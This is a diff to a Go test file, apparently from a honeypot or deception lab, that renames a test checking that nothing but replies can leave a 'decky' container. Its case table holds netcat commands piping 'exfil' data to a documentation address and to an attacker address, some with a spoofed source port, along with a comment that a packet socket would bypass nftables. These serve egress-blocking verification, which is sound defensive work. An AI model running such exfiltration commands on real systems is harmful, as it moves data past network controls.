@@ -41,10 +41,10 @@ func (l lab) capture(t *testing.T) func(from string) string {
 	}
 }
 
-// TestEgressLock tries to reach out from inside of a decky as root, by all the ways there
+// TestW17_NothingButRepliesLeavesADecky tries to reach out from inside of a decky as root, by all the ways there
 // are, while the bridge is watched. Another decky, which is only talked to, shows that the
 // capture would have seen it.
-func TestEgressLock(t *testing.T) {
+func TestW17_NothingButRepliesLeavesADecky(t *testing.T) {
 	needs(t, "tcpdump", "nc", "curl", "nping", "redis-cli")
 	l := newLab(t)
 	reg := registry(t)
@@ -67,7 +67,7 @@ func TestEgressLock(t *testing.T) {
 		{[]string{"sh", "-c", "echo exfil | nc -u -w 1 192.0.2.53 53"}, "udp", "192.0.2.53", "53"},
 		{[]string{"sh", "-c", "echo exfil | nc -u -w 1 -s 10.99.1.1 -p 6379 " + attackerAddr + " 5353"}, "udp", attackerAddr, "5353"},
 		{[]string{"nc", "-w", "1", "10.99.1.2", "6379"}, "tcp", "10.99.1.2", "6379"},
-		// By the route of the kernel; a packet socket passes by nftables, see doc.go.
+		// By a raw socket: a packet socket would pass by nftables.
 		{[]string{"nping", "--send-ip", "--icmp", "-c", "1", "192.0.2.1"}, "icmp", "192.0.2.1", ""},
 	} {
 		within(t, ns, try.args...)
